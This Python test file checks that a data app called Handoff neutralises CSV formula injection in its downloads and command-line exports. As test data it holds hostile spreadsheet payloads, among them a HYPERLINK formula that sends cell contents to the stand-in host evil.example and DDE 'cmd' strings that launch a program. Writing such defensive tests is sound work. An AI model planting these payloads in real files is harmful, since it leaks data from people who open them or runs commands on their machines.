"""CSV formula injection: nothing Handoff hands a person to open in a spreadsheet runs as a formula.

A cell starting with =, +, -, @, tab or CR is a formula to Excel, LibreOffice and Google Sheets; every
download gets the usual leading ' on such text cells (numbers untouched), and the command line does
the same with --safe-csv while staying exact without it.
"""

from __future__ import annotations

import ast
import csv
import io

import pandas as pd
import pytest

from handoff import ingest, spreadsheet, ui
from handoff.cli import main
from tests.fixtures import ROOT

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HARMLESS = ["email", "-12.5", "+3", "1e-3", "", "a=b", " =1 (leading space)", "'already quoted"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert spreadsheet.is_formula(text)
    assert spreadsheet.neutralise_text(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_plain_numbers_are_left_alone(text):
    assert spreadsheet.neutralise_text(text) == text


def test_a_frame_keeps_its_numbers_and_neutralises_only_text():
    frame = pd.DataFrame(
        {
            "campaign_name": [HYPERLINK, "Spring webinar", "-7", None],
            "change_usd": [-1500.25, 3.0, -7.0, 0.0],  # negative numbers are numbers
            "lead_count": [-1, 2, 3, 4],
            "mixed": ["@x", 5, None, "-1"],  # an object column: only its text changes
            "segment": pd.Categorical(["=a", "smb", "smb", "=a"]),
            "=1+1": ["a", "b", "c", "d"],  # a header is a cell too
        }
    )
    safe = spreadsheet.neutralise_formulas(frame)
    assert safe["campaign_name"].tolist()[:3] == ["'" + HYPERLINK, "Spring webinar", "-7"]
    assert pd.isna(safe["campaign_name"].iloc[3])
    pd.testing.assert_series_equal(safe["change_usd"], frame["change_usd"])
    pd.testing.assert_series_equal(safe["lead_count"], frame["lead_count"])
    assert safe["mixed"].tolist()[:2] == ["'@x", 5] and safe["mixed"].iloc[3] == "-1"
    assert safe["segment"].tolist() == ["'=a", "smb", "smb", "'=a"]
    assert list(safe.columns)[-1] == "'=1+1"
    assert frame["campaign_name"].iloc[0] == HYPERLINK, "the shown table is not changed"


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_every_table_download_of_the_app_is_neutralised(monkeypatch):
    offered = {}

    def download_button(label, data, file_name, **kwargs):
        offered[file_name] = data() if callable(data) else data

    monkeypatch.setattr(ui.st, "download_button", download_button)
    frame = pd.DataFrame({"campaign_name": HOSTILE, "cost_usd": [-1.5] * len(HOSTILE)})
    ui.download_csv(frame, "campaign_performance")
    rows = _cells(offered["campaign_performance.csv"])
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-1.5"}


# Each st.download_button in the app, reviewed: (file, function it is in) → how it is made safe.
REVIEWED_DOWNLOADS = {
    ("handoff/ui/__init__.py", "download_csv"): "spreadsheet.csv_bytes",
    ("pages/explore.py", "downloads"): "spreadsheet.neutralise_formulas (CSV and Parquet)",
    ("pages/overview.py", None): "the meeting pack: HTML, every value escaped by report.build_report",
    (
        "pages/review.py",
        None,
    ): "a closed review's meeting pack as it was: HTML escaped by report.build_report",
}


def test_every_download_button_in_the_app_is_one_reviewed_for_formulas():
    found = set()
    for path in [*ROOT.glob("pages/*.py"), *ROOT.glob("handoff/**/*.py"), ROOT / "app.py"]:
        tree = ast.parse(path.read_text())
        for function in [None, *[n for n in ast.walk(tree) if isinstance(n, ast.FunctionDef)]]:
            body = tree if function is None else function
            for node in ast.walk(body):
                if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "download_button":
                    owner = None if function is None else function.name
                    found.add((str(path.relative_to(ROOT)), owner))
    # A call inside a function is also seen at module level; keep the innermost owner.
    found = {site for site in found if site[1] is not None or not any(f == site[0] and o for f, o in found)}
    assert found == set(REVIEWED_DOWNLOADS), "a new download: make it spreadsheet-safe, then list it here"
    explore = (ROOT / "pages/explore.py").read_text()
    assert "spreadsheet.csv_bytes(frame)" in explore
    assert "parquet_bytes(spreadsheet.neutralise_formulas(frame))" in explore


@pytest.fixture
def hostile_db(make_db):
    campaigns = [
        {
            "campaign_id": "c1",
            "name": HYPERLINK,
            "channel": "email",
            "owner_team": "marketing",
            "start_date": "2026-01-01",
            "end_date": "2026-12-31",
            "budget": 100,
            "cost": 50,
        }
    ]
    leads = [
        {
            "lead_id": "@lead",
            "created_at": "2026-02-01 10:00",
            "channel": "email",
            "source_campaign_id": "c1",
            "sourced_by": "marketing",
            "segment": "smb",
            "region": "NA",
        }
    ]
    return make_db({"campaigns": campaigns, "leads": leads})


def test_query_csv_is_exact_and_safe_csv_neutralises(hostile_db, capsys):
    args = [
        "query",
        "campaigns__performance",
        "--db",
        str(hostile_db),
        "--param",
        "start=2026-01-01",
        "--param",
        "end=2027-01-01",
        "--format",
        "csv",
    ]
    assert main(args) == 0
    exact = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert main([*args, "--safe-csv"]) == 0
    safe = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype=str, keep_default_na=False)
    assert HYPERLINK in exact["campaign_name"].tolist()
    assert "'" + HYPERLINK in safe["campaign_name"].tolist()
    assert HYPERLINK not in safe["campaign_name"].tolist()
    assert safe["cost_usd"].tolist() == exact["cost_usd"].tolist()


def test_sql_safe_csv_neutralises_values_and_headers(hostile_db, capsys):
    statement = "select name, -5 as change_usd, '-5' as change_text, name as \"=HYPERLINK(1)\" from campaigns"
    assert main(["sql", statement, "--db", str(hostile_db), "--format", "csv", "--safe-csv"]) == 0
    rows = _cells(capsys.readouterr().out.encode())
    assert rows == [
        ["name", "change_usd", "change_text", "'=HYPERLINK(1)"],
        ["'" + HYPERLINK, "-5", "-5", "'" + HYPERLINK],
    ]
    assert main(["sql", statement, "--db", str(hostile_db), "--format", "csv"]) == 0
    assert _cells(capsys.readouterr().out.encode())[1][0] == HYPERLINK


def test_safe_csv_with_another_format_is_a_one_line_usage_error(hostile_db, capsys):
    assert main(["query", "data__table_counts", "--db", str(hostile_db), "--safe-csv"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--safe-csv goes with --format csv" in err


def test_export_is_exact_unless_asked_for_spreadsheets(hostile_db, tmp_path, capsys):
    ingest.export(hostile_db, tmp_path / "exact")
    assert main(["export", "--db", str(hostile_db), "--safe-csv", str(tmp_path / "safe")]) == 0
    exact = pd.read_csv(tmp_path / "exact" / "campaigns.csv", dtype=str)
    safe = pd.read_csv(tmp_path / "safe" / "campaigns.csv", dtype=str)
    assert exact["name"].tolist() == [HYPERLINK] and safe["name"].tolist() == ["'" + HYPERLINK]
    assert pd.read_csv(tmp_path / "safe" / "leads.csv", dtype=str)["lead_id"].tolist() == ["'@lead"]
    assert safe["cost"].tolist() == exact["cost"].tolist()
